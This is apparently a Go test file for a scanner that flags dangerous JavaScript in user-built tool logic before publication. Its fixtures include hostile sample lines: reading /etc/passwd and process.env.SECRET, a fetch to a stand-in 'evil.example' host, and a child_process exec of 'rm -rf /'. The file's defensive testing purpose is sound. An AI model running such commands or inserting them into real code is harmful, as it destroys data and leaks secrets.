package toolbuilder

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/flowmatic/flowmatic/pkg/models"
)

func TestScanCleanCode(t *testing.T) {
	report := Scan("return weight / (height * height);")

	assert.True(t, report.Safe)
	assert.Equal(t, RiskLow, report.RiskLevel)
	assert.Empty(t, report.Violations)
}

func TestScanFindings(t *testing.T) {
	tests := []struct {
		name string
		code string
		risk RiskLevel
		safe bool
	}{
		{"eval", `return eval("2+2");`, RiskCritical, false},
		{"function constructor", `var f = new Function("return 1");`, RiskCritical, false},
		{"require", `var fs = require("fs");`, RiskCritical, false},
		{"process env", `return process.env.SECRET;`, RiskCritical, false},
		{"filesystem", `fs.readFileSync("/etc/passwd");`, RiskHigh, false},
		{"fetch", `fetch("https://evil.example");`, RiskHigh, false},
		{"obfuscation", `return String.fromCharCode(101, 118);`, RiskMedium, true},
		{"base64", `return atob(payload);`, RiskMedium, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			report := Scan(tt.code)

			assert.Equal(t, tt.risk, report.RiskLevel)
			assert.Equal(t, tt.safe, report.Safe)
			assert.NotEmpty(t, report.Violations)
		})
	}
}

func TestScanToolWalksNestedBranches(t *testing.T) {
	tool := &models.Tool{
		Logic: []*models.LogicStep{
			{
				ID:     "check",
				Type:   models.LogicStepCondition,
				Config: map[string]any{"expression": "x > 0"},
				Else: []*models.LogicStep{
					{ID: "bad", Type: models.LogicStepCustom, Config: map[string]any{"code": `eval("boom")`}},
				},
			},
		},
	}

	report := ScanTool(tool)

	assert.False(t, report.Safe)
	assert.Equal(t, RiskCritical, report.RiskLevel)
}

func TestCheckPublishable(t *testing.T) {
	clean := &models.Tool{
		Logic: []*models.LogicStep{
			{ID: "calc", Type: models.LogicStepCalculation, Config: map[string]any{"formula": "a + b"}},
			{ID: "script", Type: models.LogicStepCustom, Config: map[string]any{"code": "return a + b;"}},
		},
	}
	assert.NoError(t, CheckPublishable(clean))

	dangerous := &models.Tool{
		Logic: []*models.LogicStep{
			{ID: "script", Type: models.LogicStepCustom, Config: map[string]any{"code": `require("child_process").exec("rm -rf /");`}},
		},
	}

	err := CheckPublishable(dangerous)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "SECURITY_ERROR")
	assert.Contains(t, err.Error(), "critical")
}
